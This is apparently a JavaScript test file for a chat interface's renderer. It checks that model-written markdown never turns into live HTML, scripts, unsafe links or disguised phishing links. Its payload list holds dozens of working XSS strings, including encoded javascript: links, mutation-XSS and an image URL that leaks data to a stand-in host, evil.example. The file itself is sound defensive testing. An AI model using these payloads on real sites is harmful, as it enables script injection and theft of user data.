/** Model text never becomes HTML: what the page is made of after each payload, whole and in pieces. */
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { test } from "node:test";
import { clear, play } from "../../static/js/dom/play.js";
import { chance, pieces, stream, useDocument, whole } from "./support.js";

const document = useDocument();

const TAGS = new Set(
  `A BLOCKQUOTE BR BUTTON CODE DEL DIV EM FIGCAPTION FIGURE H1 H2 H3 H4 H5 H6 HR INPUT LI OL P PRE SPAN STRONG TABLE
   TBODY TD TH THEAD TR UL DETAILS SUMMARY SECTION BDI SUP`.split(/\s+/),
);
const ATTRIBUTES = new Set(`class dir href title rel target type disabled checked start tabindex open aria-label
  aria-pressed role hidden data-tool data-address`.split(/\s+/));

/** @param {HTMLElement} container */
function inspect(container) {
  for (const element of container.querySelectorAll("*")) {
    assert.ok(TAGS.has(element.tagName.toUpperCase()), `<${element.tagName}>`);
    for (const { name, value } of element.attributes) {
      // A long answer's chunks are contained; no style comes from the text.
      if (name === "style" && element.className === "prose") assert.match(value, /^contain:\s?content;\s?contain-intrinsic-block-size:\s?auto 2400px;\s?overflow-clip-margin:\s?0\.5rem;?(\s?content-visibility:\s?auto;?)?$/);
      else assert.ok(ATTRIBUTES.has(name), `${name} on <${element.tagName}>`);
    }
    const href = element.getAttribute("href");
    if (href !== null) assert.match(href, /^(https?:\/\/|mailto:)/);
    const address = element.getAttribute("data-address");
    if (address !== null) assert.match(address, /^https?:\/\//);
    if (href !== null) assert.equal(element.getAttribute("rel"), "noopener noreferrer nofollow");
  }
}

const PAYLOADS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<a href='javascript:alert(1)'>x</a>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<base href='https://evil.example/'>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A;&#x61;vascript&colon;alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](\\x6Aavascript:alert(1))",
  "[x](%6Aavascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](data:image/svg+xml,<svg onload=alert(1)>)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://example.org/1)",
  "[x](/account/logout/)",
  "[x](//evil.example/)",
  "[x](#top)",
  "<javascript:alert(1)>",
  "<https://example.org/\"onmouseover=\"alert(1)>",
  "[x](https://example.org 'title\" onclick=\"alert(1)')",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/steal?q=secret)",
  "![x\" onerror=\"alert(1)](https://evil.example/a.png)",
  "[![x](https://evil.example/a.png)](javascript:alert(1))",
  "[x]: javascript:alert(1)\n\n[x]",
  "```\"><script>alert(1)</script>\ncode\n```",
  "```js onload=alert(1)\ncode\n```",
  "| <b onclick=alert(1)> | [x](javascript:alert(1)) |\n|:--|--:|\n| <script> | ![x](https://evil.example/) |",
  "- [x] <img src=x onerror=alert(1)>",
  "1. <object data=x>\n   <embed src=x>",
  "# <script>alert(1)</script>",
  "\\(<script>alert(1)</script>\\) $$<img src=x onerror=alert(1)>$$",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\u202e<script>\u202c \u0000<\u0000script>",
  "{{constructor.constructor('alert(1)')()}}",
  "```mermaid\ngraph TD; a[\"<img src=x onerror=alert(1)>\"]\n```",
];

/** @type {string[]} every way in that the rules of tests/hostile know */
const CORPUS = JSON.parse(readFileSync(new URL("../hostile/payloads.json", import.meta.url), "utf8"));

test("no text of the corpus, whole or in pieces, becomes an element, an attribute or an address that acts", () => {
  assert.ok(CORPUS.length >= 300);
  for (const [at, text] of CORPUS.entries()) {
    inspect(whole(document, text));
    inspect(whole(document, text, "unknown"));
    inspect(stream(document, pieces(text, chance(at + 1), 6), inspect));
  }
});

test("no payload becomes an element, an attribute or an address that acts", () => {
  const all = PAYLOADS.join("\n\n");
  for (const text of [...PAYLOADS, all]) {
    inspect(whole(document, text));
    inspect(whole(document, text, "unknown"));
    inspect(stream(document, [...text.slice(0, 400)], text === all ? undefined : inspect));
    inspect(stream(document, pieces(text, chance(text.length), 30), inspect));
  }
});

test("an allowed link leads to its address and shows it", () => {
  const link = whole(document, "[here](https://example.org/a?b=1) and https://example.net").querySelectorAll("a");
  assert.equal(link[0]?.getAttribute("href"), "https://example.org/a?b=1");
  assert.equal(link[0]?.getAttribute("title"), "https://example.org/a?b=1");
  assert.equal(link[1]?.getAttribute("href"), "https://example.net/");
  assert.equal(whole(document, "mail <a@example.org>").querySelector("a")?.getAttribute("href"), "mailto:a@example.org");
});

test("a picture of another site is shown as its alternative text, its host and a button; without an address there is no button", () => {
  const [cat, data, relative] = whole(document, "![a cat](https://pictures.example/cat.png) ![d](data:image/png;base64,AA) ![r](/r.png)").querySelectorAll(".image-blocked");
  assert.equal(cat?.querySelector(".image-blocked__alt")?.textContent, "a cat");
  assert.equal(cat?.querySelector(".image-blocked__host")?.textContent, "pictures.example will see your request");
  assert.equal(cat?.querySelector("button")?.getAttribute("data-address"), "https://pictures.example/cat.png");
  for (const other of [data, relative]) assert.equal(other?.querySelector("button"), null);
});

test("a link whose words look like another address says where it leads", () => {
  const disguised = ["[https://bank.example](https://evil.example/x)", "[www.bank.example/login](https://evil.example)", "[**bank**.example](http://evil.example)",
    "[https://bank.example](https://bank.example@evil.example)", "[b\u200bank.example](https://evil.example)", "<https://bank.example@evil.example>"];
  for (const text of disguised) assert.equal(whole(document, text).querySelector("a > .link__host")?.textContent, "evil.example", text);
  assert.equal(whole(document, "[\u0430pple.com](https://\u0430pple.com)").querySelector(".link__host")?.textContent, "xn--pple-43d.com");
  const honest = ["[here](https://evil.example)", "[bank.example](https://www.bank.example/a)", "https://bank.example/a", "[Node.js](https://nodejs.org)", "[v1.2](https://example.org)", "<a@bank.example>"];
  for (const text of honest) assert.equal(whole(document, text).querySelector(".link__host"), null, text);
});

test("unknown kinds, fields and ops lose their form but not their words, and never act", () => {
  const container = document.createElement("div");
  play(container, /** @type {any} */ ([
    ["reset"],
    ["add", [], ["script", { src: "https://evil.example" }, "alert(1)"], ["p", { onclick: "x", innerHTML: "<b>" }, "words"]],
    ["add", [], ["link", { href: { toString: () => "javascript:1" } }, "l"], ["__proto__", null, "p"], ["constructor", {}, "c"]],
    ["innerHTML", [], "<b>"],
    ["eval", "alert(1)"],
  ]));
  inspect(container);
  assert.equal(container.textContent, "alert(1)wordslpc");
});

test("a path that leads nowhere is an error, so that the page can ask for everything again", () => {
  const container = document.createElement("div");
  assert.throws(() => play(container, [["text", [3, 0], "x"]]), RangeError);
  assert.throws(() => play(container, [["add", [0], "x"]]), RangeError);
  play(container, [["paint", [0], 0, [0, 1, "keyword"]]]);
});

test("a body that is cleared is empty", () => {
  const container = whole(document, "# a\n\n```js\nb\n```");
  clear(container);
  assert.equal(container.childNodes.length, 0);
});

test("the source of the page never parses HTML", async () => {
  const { readdir, readFile } = await import("node:fs/promises");
  const root = new URL("../../static/js/", import.meta.url);
  for (const name of await readdir(root, { recursive: true })) {
    if (!name.endsWith(".js")) continue;
    const source = (await readFile(new URL(name, root), "utf8")).replace(/\/\*[\s\S]*?\*\/|\/\/.*$/gm, "");
    assert.doesNotMatch(source, /innerHTML|outerHTML|insertAdjacentHTML|document\.write|DOMParser|createContextualFragment|setHTML|srcdoc|\beval\(|new Function/, name);
    if (name.startsWith("worker/")) assert.doesNotMatch(source, /\bdocument\b|\bwindow\b/, name);
    else assert.doesNotMatch(source, /markdown-it|new WebSocket/, name);
  }
});
